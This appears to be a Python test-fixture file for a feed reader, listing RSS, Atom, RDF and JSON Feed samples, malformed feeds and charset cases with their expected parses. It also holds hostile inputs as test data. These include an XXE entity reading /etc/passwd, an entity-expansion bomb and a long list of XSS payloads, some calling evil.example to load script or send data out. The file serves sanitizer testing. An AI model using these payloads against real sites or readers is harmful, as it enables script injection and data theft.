"""Feeds as they are met in the wild: formats, dialects, mistakes, charsets; each with what it must give.

An expected entry is (title, address, words that its text holds, moment in UTC or None).
"""

from __future__ import annotations

from typing import NamedTuple

Expected = tuple[str, str, str, str | None]


class File(NamedTuple):
    """A document, what its host says of it, and what it holds."""

    name: str
    content: bytes
    entries: list[Expected]
    content_type: str = ""


AT = "https://news.example/feeds/all.xml"


def rss(items: str, head: str = "", version: str = "2.0", channel: str = "") -> str:
    return (
        f'{head}<rss version="{version}" xmlns:dc="http://purl.org/dc/elements/1.1/"'
        ' xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:media="http://search.yahoo.com/mrss/"'
        ' xmlns:atom="http://www.w3.org/2005/Atom">'
        f"<channel><title>News</title><link>https://news.example/</link>{channel}{items}</channel></rss>"
    )


def atom(entries: str, attributes: str = "") -> str:
    return (
        f'<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom"{attributes}>'
        f"<title>News</title><id>urn:feed</id>{entries}</feed>"
    )


ITEM = "<item><title>{}</title><link>https://news.example/1</link></item>"
CAFE = [("Café “A” – ½", "https://news.example/1", "", None)]
PLAIN = [("Recall", "https://news.example/1", "", None)]


def in_charset(name: str, declared: str | None, title: str = "Café “A” – ½") -> bytes:
    head = f'<?xml version="1.0" encoding="{declared}"?>' if declared else ""
    return rss(ITEM.format(title), head).encode(name)


FORMATS = [
    File(
        "rss 2.0 whole",
        rss(
            "<item><title>Recall of metformin</title><link>https://news.example/a?x=1&amp;y=2</link>"
            "<guid isPermaLink='false'>n-1</guid><description>&lt;p&gt;One &lt;b&gt;lot&lt;/b&gt;&lt;/p&gt;"
            "</description><pubDate>Tue, 24 Nov 2026 08:30:00 EST</pubDate></item>"
        ).encode(),
        [("Recall of metformin", "https://news.example/a?x=1&y=2", "One lot", "2026-11-24T13:30:00")],
    ),
    File("rss 0.91", rss(ITEM.format("Recall"), version="0.91").encode(), PLAIN),
    File(
        "rss 0.91 with its document type",
        rss(
            ITEM.format("Recall"),
            '<?xml version="1.0"?><!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" '
            '"http://my.netscape.com/publish/formats/rss-0.91.dtd">',
            "0.91",
        ).encode(),
        PLAIN,
    ),
    File("rss 0.92", rss(ITEM.format("Recall"), version="0.92").encode(), PLAIN),
    File("rss without a version", rss(ITEM.format("Recall")).replace(' version="2.0"', "").encode(), PLAIN),
    File(
        "rdf, items beside the channel",
        b'<?xml version="1.0"?><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" '
        b'xmlns="http://purl.org/rss/1.0/" xmlns:dc="http://purl.org/dc/elements/1.1/">'
        b'<channel rdf:about="https://news.example/"><title>News</title><link>https://news.example/</link></channel>'
        b'<item rdf:about="https://news.example/1"><title>Recall</title><link>https://news.example/1</link>'
        b"<dc:date>2026-11-24T08:30:00-05:00</dc:date></item></rdf:RDF>",
        [("Recall", "https://news.example/1", "", "2026-11-24T13:30:00")],
    ),
    File(
        "guid as the only address",
        rss("<item><title>Recall</title><guid>https://news.example/1</guid></item>").encode(),
        PLAIN,
    ),
    File(
        "content beside a description",
        rss(
            "<item><title>Recall</title><link>https://news.example/1</link><description>Short.</description>"
            "<content:encoded><![CDATA[<p>The whole text of it.</p><p>More.</p>]]></content:encoded></item>"
        ).encode(),
        [("Recall", "https://news.example/1", "whole text of it. More.", None)],
    ),
    File(
        "no title",
        rss(
            "<item><link>https://news.example/1</link><description>Only words.</description></item>"
        ).encode(),
        [("Only words.", "https://news.example/1", "Only words.", None)],
    ),
    File(
        "no address, no id",
        rss("<item><title>Recall</title><description>Words</description></item>").encode(),
        [("Recall", "", "Words", None)],
    ),
    File(
        "addresses that are relative",
        rss("<item><title>Recall</title><link>/1</link></item>").encode(),
        PLAIN,
    ),
    File(
        "atom 1.0",
        atom(
            "<entry><title>Recall</title><id>urn:1</id><link href='https://news.example/1'/>"
            "<published>2026-11-24T08:30:00-05:00</published><updated>2026-11-25T00:00:00Z</updated>"
            "<summary>Words</summary></entry>"
        ).encode(),
        [("Recall", "https://news.example/1", "Words", "2026-11-24T13:30:00")],
    ),
    File(
        "atom with xhtml and a base",
        atom(
            "<entry><title type='html'>Recall &amp;amp; more</title><id>urn:1</id><link href='1'/>"
            "<link rel='self' href='feed'/><content type='xhtml'><div xmlns='http://www.w3.org/1999/xhtml'>"
            "<p>Hi <b>all</b></p></div></content><updated>2026-11-24T13:30:00Z</updated></entry>",
            " xml:base='https://news.example/'",
        ).encode(),
        [("Recall & more", "https://news.example/1", "Hi all", "2026-11-24T13:30:00")],
    ),
    File(
        "atom 0.3",
        b'<feed version="0.3" xmlns="http://purl.org/atom/ns#"><title>News</title><entry><title>Recall</title>'
        b'<link rel="alternate" href="https://news.example/1"/><issued>2026-11-24T13:30:00Z</issued></entry></feed>',
        [("Recall", "https://news.example/1", "", "2026-11-24T13:30:00")],
    ),
    File(
        "json feed 1.1",
        b'{"version": "https://jsonfeed.org/version/1.1", "title": "News", "home_page_url": "https://news.example/",'
        b'"items": [{"id": 7, "title": "Recall", "url": "https://news.example/1",'
        b'"content_html": "<p>Words</p>",'
        b'"date_published": "2026-11-24T08:30:00-05:00", "authors": [{"name": "Ann"}]}]}',
        [("Recall", "https://news.example/1", "Words", "2026-11-24T13:30:00")],
        "application/feed+json",
    ),
    File(
        "json feed 1.0 of plain text",
        b'{"version": "https://jsonfeed.org/version/1", "title": "News", "items": [{"id": "1",'
        b'"title": "Recall", "url": "https://news.example/1", "content_text": "1 < 2 <script>x</script>"}]}',
        [("Recall", "https://news.example/1", "1 < 2 <script>x</script>", None)],
    ),
    File(
        "what a title may hold",
        rss(ITEM.format("&lt;b&gt;Recall&lt;/b&gt; of A &amp;amp; B &amp;lt; C")).encode(),
        [("Recall of A & B < C", "https://news.example/1", "", None)],
    ),
    File("an empty feed", rss("").encode(), []),
]

MISTAKES = [
    File(
        "blank lines before", b"\n\n  " + rss(ITEM.format("Recall"), '<?xml version="1.0"?>').encode(), PLAIN
    ),
    File("an ampersand by itself", rss(ITEM.format("Recall")).replace("News", "A & B").encode(), PLAIN),
    File("a control character", rss(ITEM.format("Re\x08call")).encode(), PLAIN),
    File("an entity of HTML", rss(ITEM.format("Caf&eacute; news")).encode(), [("*", "*", "", None)]),
    File(
        "cut off in the middle",
        rss(ITEM.format("Recall") + "<item><title>Half")[:-14].encode(),
        [*PLAIN, ("Half", "", "", None)],
    ),
    File("a tag that is not closed", rss(ITEM.format("Recall") + "<p>").encode(), PLAIN),
    File("something behind", rss(ITEM.format("Recall")).encode() + b"<!-- cached --> <script>", PLAIN),
    File(
        "the same id twice",
        rss(
            "<item><title>A</title><guid>1</guid></item><item><title>B</title><guid>1</guid></item>"
        ).encode(),
        [("A", "", "", None)],
    ),
    File(
        "days that are none",
        rss(
            "".join(
                f"<item><title>{n}</title><guid>{n}</guid><pubDate>{day}</pubDate></item>"
                for n, day in enumerate(
                    [
                        "yesterday",
                        "May",
                        "2026",
                        "1",
                        "0000-00-00",
                        "Mon, 32 Nov 2026 25:00:00 GMT",
                        "",
                        "1" * 400,
                    ]
                )
            )
        ).encode(),
        [(str(n), "", "", None) for n in range(8)],
    ),
    File(
        "days as people write them",
        rss(
            "".join(
                f"<item><title>{n}</title><guid>{n}</guid><pubDate>{day}</pubDate></item>"
                for n, day in enumerate(
                    ["2026-11-24 13:30:00", "24 Nov 2026 13:30:00 GMT", "Tue, 24 Nov 26 13:30 GMT"]
                )
            )
        ).encode(),
        [(str(n), "", "", "2026-11-24T13:30:00") for n in range(3)],
    ),
]

CHARSETS = [
    File("utf-8", in_charset("utf-8", "utf-8"), CAFE),
    File("utf-8 that says nothing", in_charset("utf-8", None), CAFE),
    File("utf-8 with a mark", in_charset("utf-8-sig", None), CAFE),
    File("utf-16 with a mark", in_charset("utf-16", "utf-16"), CAFE),
    File("utf-16 without a mark", in_charset("utf-16-le", "utf-16"), CAFE),
    File("utf-16 said of utf-8", in_charset("utf-8", "utf-16"), CAFE),
    File("windows-1252", in_charset("windows-1252", "windows-1252"), CAFE),
    File("windows-1252 called latin-1", in_charset("windows-1252", "iso-8859-1"), CAFE),
    File("windows-1252 called utf-8", in_charset("windows-1252", "utf-8"), CAFE),
    File("windows-1252 that says nothing", in_charset("windows-1252", None), CAFE),
    File("utf-8 called latin-1", in_charset("utf-8", "iso-8859-1"), CAFE),
    File("only the host tells", in_charset("koi8-r", None, "Рецепт"),
         [("Рецепт", "https://news.example/1", "", None)], "text/xml; charset=KOI8-R"),
    File("the document is right, not its host", in_charset("utf-8", "utf-8"), CAFE,
         "text/xml; charset=us-ascii"),
    File("shift_jis", in_charset("shift_jis", "Shift_JIS", "薬局"),
         [("薬局", "https://news.example/1", "", None)]),
    File("a charset that nobody knows", in_charset("utf-8", "x-own"), CAFE),
    File("a codec that is no charset", in_charset("utf-8", "unicode_escape"), CAFE),
    File("utf-8 with one broken letter", rss(ITEM.format("Café – ½ @")).encode().replace(b"@", b"\xff"),
         [("Café – ½ �", "https://news.example/1", "", None)]),
]  # fmt: skip

NONE_AT_ALL = {
    "nothing": (b"", "Nothing came"),
    "a page": (b"<!DOCTYPE html><html><body>Sign in</body></html>", "web page"),
    "a page in capitals": (b"\n<HTML><HEAD></HEAD></HTML>", "web page"),
    "words": (b"Service unavailable", "not a readable feed"),
    "an address": (b"http://127.0.0.1:1/feed.xml", "not a readable feed"),
    "a file address": (b"file:///etc/passwd", "not a readable feed"),
    "other XML": (b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg'/>", "not a readable feed"),
    "other JSON": (b'{"hello": 1}', "not a readable feed"),
    "JSON that is wrong": (b'{"version": "https://jsonfeed.org/version/1", "items": 7}', "a readable feed"),
    "deep JSON": (b'{"version": "https://jsonfeed.org/version/1", "items": ' + b"[" * 100_000, "a readable"),
    "a picture": (b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 20, "not a readable feed"),
    "unfolding entities": (
        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "lol">'
        + b"".join(b'<!ENTITY %c "&%c;&%c;&%c;&%c;">' % (n + 1, n, n, n, n) for n in range(97, 120))
        + b"]><rss><channel><item><title>&x;</title></item></channel></rss>",
        "its own entities",
    ),
    "an entity from a file": (
        b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><rss><channel><title>&x;</title></channel></rss>',
        "its own entities",
    ),
    "entities far behind": (
        b"<!DOCTYPE rss" + b" " * 3_000 + b'[<!ENTITY x "y">]><rss><channel/></rss>', "its own entities",
    ),
    "millions of elements": (b"<rss><channel>" + b"<a/>" * 600_000, "more elements"),
}  # fmt: skip

# What a reader must not let through, as attacks on readers are known: scripts by element, attribute, scheme,
# style, encoding and broken nesting.
ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/pixel.gif>",
    "<IMG SRC=`javascript:alert(1)`>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href=https://ok.example/ onclick=alert(1)>x</a>",
    "<a href=https://ok.example/ style='position:fixed;inset:0'>x</a>",
    "<a href=https://ok.example/ target=_top ping=https://evil.example>x</a>",
    "<form action=https://evil.example/><input name=password><button>Sign in</button></form>",
    "<style>@import 'https://evil.example/x.css'; body{display:none}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<div style=\"background:url('javascript:alert(1)')\">x</div>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<template><script>alert(1)</script></template>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<xss id=x tabindex=1 onactivate=alert(1)></xss>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "\"><script>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<p/onclick=alert(1)>x",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<a id=location name=cookie href=#x>x</a>",
]  # fmt: skip
